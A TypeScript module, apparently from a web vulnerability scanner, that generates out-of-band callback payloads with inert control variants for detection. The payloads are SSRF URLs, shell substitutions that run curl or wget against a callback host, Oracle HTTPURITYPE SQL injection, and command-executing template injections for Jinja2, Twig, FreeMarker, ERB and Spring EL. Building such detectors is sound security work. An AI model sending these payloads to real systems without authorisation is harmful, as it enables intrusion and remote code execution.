import type { CallbackSyntax } from '../../callbacks';

const asText =
  (scheme: string) =>
  (value: string, host: string): string =>
    `${value} ${scheme}://${host}/`;
const withoutScheme = (_value: string, host: string): string => `//${host}/`;

export const URL_CALLBACKS: readonly CallbackSyntax[] = [
  {
    id: 'callback-url',
    by: 'The server requests the URL',
    write: (_value, host) => `http://${host}/`,
    // A browser and a link checker complete it, and a client without a page does not.
    controls: [asText('http'), withoutScheme],
  },
  {
    id: 'callback-url-https',
    by: 'The server requests the URL',
    isHttps: true,
    write: (_value, host) => `https://${host}/`,
    controls: [asText('https'), withoutScheme],
  },
  {
    id: 'callback-host',
    by: 'The server sends a request to the host',
    write: (_value, host) => host,
    controls: [(value, host) => `${value} ${host}`],
  },
];

/** What is printed is empty, so the command stays whole. Both programs are tried, because many machines have only one. */
const fetching = (host: string): readonly [string, string] => [
  `curl -s http://${host}/`,
  `wget -q -O- http://${host}/`,
];

const each = (host: string, write: (command: string) => string): string => fetching(host).map(write).join('');
const substituted = (host: string): string => each(host, (command) => `$(${command})`);

/** Only substitutions, which leave the command of the application whole. */
export const SHELL_CALLBACKS: readonly CallbackSyntax[] = [
  {
    id: 'callback-shell',
    by: 'A shell runs the command',
    write: (value, host) => value + substituted(host),
    controls: [(value, host) => value + each(host, (command) => `\\$\\(${command}\\)`)],
  },
  {
    id: 'callback-shell-quotes',
    by: 'A shell runs the command',
    write: (value, host) => `${value}'${substituted(host)}'`,
    controls: [(value, host) => value + substituted(host)],
  },
];

const HTTP_URI = (host: string): string => `HTTPURITYPE('http://${host}/').GETCLOB()`;

/** Of the usual databases only Oracle sends HTTP requests in an expression. */
export const SQL_CALLBACKS: readonly CallbackSyntax[] = [
  {
    id: 'callback-oracle-number',
    by: 'Oracle evaluates the expression',
    fits: (value) => /^-?\d{1,9}$/.test(value),
    write: (value, host) => `${value}+NVL(LENGTH(${HTTP_URI(host)}),0)`,
    controls: [(value, host) => `${value}+0*LENGTH('HTTPURITYPE http://${host}/ GETCLOB')`],
  },
  {
    id: 'callback-oracle-text',
    by: 'Oracle evaluates the expression',
    write: (value, host) => `${value}'||${HTTP_URI(host)}||'`,
    controls: [(value, host) => `${value}'||SUBSTR('HTTPURITYPE http://${host}/ GETCLOB',1,0)||'`],
  },
];

interface Engine {
  readonly id: string;
  readonly name: string;
  readonly write: (command: string) => string;
  readonly quote: (command: string) => string;
}

const ENGINES: readonly Engine[] = [
  {
    id: 'jinja',
    name: 'Jinja2',
    write: (command) => `{{cycler.__init__.__globals__.os.popen('${command}').read()}}`,
    quote: (command) => `{{'cycler os.popen ${command}'}}`,
  },
  {
    id: 'twig',
    name: 'Twig',
    write: (command) => `{{['${command}']|map('system')|join}}`,
    quote: (command) => `{{'${command} map system join'}}`,
  },
  {
    id: 'freemarker',
    name: 'FreeMarker',
    write: (command) => `\${"freemarker.template.utility.Execute"?new()("${command}")}`,
    quote: (command) => `\${"freemarker.template.utility.Execute ${command}"}`,
  },
  {
    id: 'erb',
    name: 'ERB',
    write: (command) => `<%= \`${command}\` %>`,
    quote: (command) => `<%= '${command}' %>`,
  },
  {
    id: 'spring',
    name: 'an expression language of Java',
    write: (command) => `\${T(java.lang.Runtime).getRuntime().exec('${command}')}`,
    quote: (command) => `\${'java.lang.Runtime exec ${command}'}`,
  },
];

export const TEMPLATE_CALLBACKS: readonly CallbackSyntax[] = ENGINES.map(({ id, name, write, quote }) => ({
  id: `callback-${id}`,
  by: `${name} runs the value as a template`,
  write: (_value, host) => write(fetching(host)[0]),
  controls: [(_value, host) => quote(fetching(host)[0])],
}));

export const ALL_CALLBACKS: readonly CallbackSyntax[] = [
  ...URL_CALLBACKS,
  ...SHELL_CALLBACKS,
  ...SQL_CALLBACKS,
  ...TEMPLATE_CALLBACKS,
];
